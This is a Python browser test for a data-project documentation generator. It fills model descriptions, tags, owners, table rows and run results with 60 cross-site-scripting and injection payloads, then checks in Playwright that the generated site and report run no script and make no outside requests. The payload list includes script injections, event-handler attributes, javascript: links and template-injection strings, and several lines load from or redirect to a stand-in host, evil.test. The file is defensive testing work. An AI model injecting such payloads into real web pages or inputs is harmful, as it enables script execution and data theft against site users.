"""Site and report of a hostile project in a real browser: 60 names and values, and none of them does anything."""

from __future__ import annotations

import json
from collections.abc import Mapping
from pathlib import Path

import pyarrow as pa
import pytest
from playwright.sync_api import Browser, Page

from sqlmesh_like.artifacts.run_results import NodeRow, write_run_results
from sqlmesh_like.cli.app import main
from tests.browser import needs_browser
from tests.levels import count
from tests.local_lake import make_table

pytestmark = needs_browser
_DO = "window.hacked=1"
_TAGS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "<script src=//evil.test/x.js></script>",
    "<img src=x onerror={}>",
    "<img src='//evil.test/x.png'>",
    "<svg onload={}>",
    "<svg/onload={}//",
    "<body onload={}>",
    "<iframe src='javascript:{}'>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'>",
    "<object data='javascript:{}'>",
    "<embed src='javascript:{}'>",
    "<math><mtext></mtext><script>{}</script></math>",
    "<a href='javascript:{}'>x</a>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<style>@import '//evil.test';</style>",
    "<link rel=stylesheet href=//evil.test>",
    "<base href='//evil.test/'>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<form action=//evil.test><button autofocus>x</button></form>",
    "<template><script>{}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "<x onclick={} style=position:fixed;inset:0>x</x>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{}'><text>x</text></a></svg>",
    "<textarea></textarea><script>{}</script>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "</textarea><img src=x onerror={}>",
)
_TEXTS = (
    '" onmouseover="{}" x="',
    "' onfocus='{}' autofocus x='",
    "` onerror=`{}",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "[x](javascript:{})",
    "[x]( javascript:{})",
    "[x](java\tscript:{})",
    "![x](//evil.test/x.png)",
    '![x](http://evil.test/x.png"onerror="{})',
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:{}>",
    "[x]: javascript:{}\n[x]",
    "[<img src=x onerror={}>](http://a.test)",
    "`<script>{}</script>`",
    "```\n</code></pre><script>{}</script>\n```",
    "| a |\n|---|\n| <img src=x onerror={}> |",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "__proto__",
    "constructor",
    "\u202egnp.exe\u2066",
    "\u2028{}//",
)
PAYLOADS = [text.format(_DO) for text in (*_TAGS, *_TEXTS)]


def test_there_are_sixty() -> None:
    assert len(set(PAYLOADS)) == 60


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Payloads as descriptions, columns, tags, meta, owners, addresses, labels, rows and messages."""
    root = tmp_path_factory.mktemp("hostile")
    turn = iter(PAYLOADS * 9)
    columns = [
        {"name": f"c{n}", "description": text, "tags": [next(turn)], "meta": {next(turn): next(turn)}}
        for n, text in enumerate(PAYLOADS)
    ]
    models = [
        {
            "name": f"m{n}",
            "description": text,
            "group": "g",
            "config": {"tags": [next(turn)], "meta": {"a": next(turn)}},
        }
        for n, text in enumerate(PAYLOADS)
    ]
    models[0]["columns"] = columns
    documents = {
        "models": models,
        "groups": [{"name": "g", "owner": {"name": next(turn), "email": next(turn)}}],
        "sources": [{"name": "s", "description": next(turn), "tables": [{"name": "t", "description": next(turn)}]}],
        "exposures": [
            {"name": f"e{n}", "label": text, "type": "dashboard", "url": text, "description": next(turn),
             "owner": {"name": next(turn), "email": next(turn)}, "depends_on": ["ref('m0')"]}
            for n, text in enumerate(PAYLOADS[:20])
        ],
    }  # fmt: skip
    (root / "models").mkdir()
    (root / "pyproject.toml").write_text('[tool.sqlmesh_like]\nname = "hostile"\n')
    (root / "profiles.yml").write_text("lake: {target: a, outputs: {a: {type: spark, schema: dws, warehouse: w}}}")
    # Jinja would take what is meant for the page.
    said = json.dumps(documents).replace("{{", "{{ '{{' }}").replace("${{ '{{' }}", "${{ '{{' }}")
    (root / "models/s.yml").write_text(said)
    overview = "\n\n".join(text for text in PAYLOADS if "{" not in text)
    (root / "models/docs.md").write_text(f"{{% docs __overview__ %}}\n{overview}\n{{% enddocs %}}\n")
    for number, text in enumerate(PAYLOADS):
        quoted = text.replace("\\", "\\\\").replace("'", "\\'").replace("{", "(").replace("\n", " ")
        named = text.replace("`", "``").replace("{", "(").replace("\n", " ").replace("\\", "/")
        comment = quoted.replace("/*", "")
        sql = f"-- {comment}\nselect '{quoted}' as `{named}`, s.name, s.amount from {{{{ source('s', 't') }}}} as s"
        (root / f"models/m{number}.sql").write_text(sql)
    rows = pa.table({"name": PAYLOADS, "amount": list(range(len(PAYLOADS)))})
    make_table(root / "w/dws/m0", rows)
    make_table(root / "w/dws/m1", pa.table({"day": PAYLOADS, "name": PAYLOADS[::-1], "amount": [1.5] * len(PAYLOADS)}))
    (root / "target").mkdir()
    results = [NodeRow(f"model.hostile.m{n}", "error", text, 0.1) for n, text in enumerate(PAYLOADS)]
    write_run_results(root / "target/run_results.json", results, 2.0, {"which": PAYLOADS[0]})
    return root


def visited(browser: Browser, file: Path, paths: list[str], probe: str, shown: Mapping[str, str]) -> list[str]:
    """What should not have happened while these pages were looked at; `shown`: texts that are there."""
    happened: list[str] = []
    page = browser.new_page()
    page.on("dialog", lambda dialog: (happened.append(f"dialog {dialog.message}"), dialog.dismiss())[0])
    page.on("console", lambda message: happened.append(message.text))
    page.on("pageerror", lambda error: happened.append(str(error)))
    page.on("request", lambda request: happened.append(request.url) if not _is_own(request.url, file) else None)
    for path in paths:
        page.goto(f"{file.as_uri()}{path}")
        page.wait_for_selector(probe)
        happened += [f"{path}: {what}" for what in _done(page)]
        if shown.get(path) and shown[path] not in (page.text_content("body") or ""):
            happened.append(f"{path}: its text is not there")
    page.close()
    return happened


def _is_own(url: str, file: Path) -> bool:
    return url.partition("#")[0] == file.as_uri() or url.startswith(("data:image", "blob:"))


def _done(page: Page) -> list[str]:
    """Scripts that ran, elements and addresses that came from a text."""
    return page.evaluate(
        """() => {
        const found = window.hacked ? ['a script ran'] : [];
        for (const each of document.querySelectorAll('*')) {
          if (each.matches('iframe, object, embed, base, form[action], link[href^="//"]')) found.push(each.outerHTML);
          for (const {name, value} of each.attributes) {
            if (name.startsWith('on')) found.push(each.outerHTML.slice(0, 200));
            const harmless = /^(#|https?:|\\/\\/|mailto:|data:image|\\.{0,2}\\/?[\\w.-]*$)/i;
            if (/^(href|src|action|xlink:href|data)$/.test(name) && !harmless.test(value.trim()))
              found.push(`${name}=${value.slice(0, 100)}`);
          }
        }
        if (!/hostile/i.test(document.title)) found.push(document.title);
        return found;
      }"""
    )


def test_the_site_shows_all_and_does_nothing(browser: Browser, project: Path) -> None:
    assert main(["docs", "generate", "--project-dir", str(project), "--profiles-dir", str(project)]) in (0, 1)
    chosen = count(4, 1, 1)  # each payload is on many of the pages
    nodes = [f"#/node/model.hostile.m{n}" for n in range(0, len(PAYLOADS), chosen)]
    nodes += [f"#/node/exposure.hostile.e{n}" for n in range(0, 20, chosen)] + ["#/node/source.hostile.s.t"]
    others = [
        "#/",
        "#/runs",
        "#/rules",
        "#/graph",
        f"#/node/{PAYLOADS[4]}",
        f"#/search?q={PAYLOADS[0]}",
        f"#{PAYLOADS[4]}",
    ]
    shown = {f"#/node/model.hostile.m{n}": PAYLOADS[n] for n in (0, 4, 8, 12)}
    assert visited(browser, project / "target/index.html", [*others, *nodes], "main", shown) == []


def test_the_report_shows_all_and_does_nothing(
    browser: Browser, project: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    assert main(["report", "--project-dir", str(project), "--profiles-dir", str(project)]) == 0
    assert visited(browser, project / "target/report.html", [""], "main", {"": PAYLOADS[4]}) == []
    assert "TypeError" not in capfd.readouterr().err  # of a row that has the name of what every object has
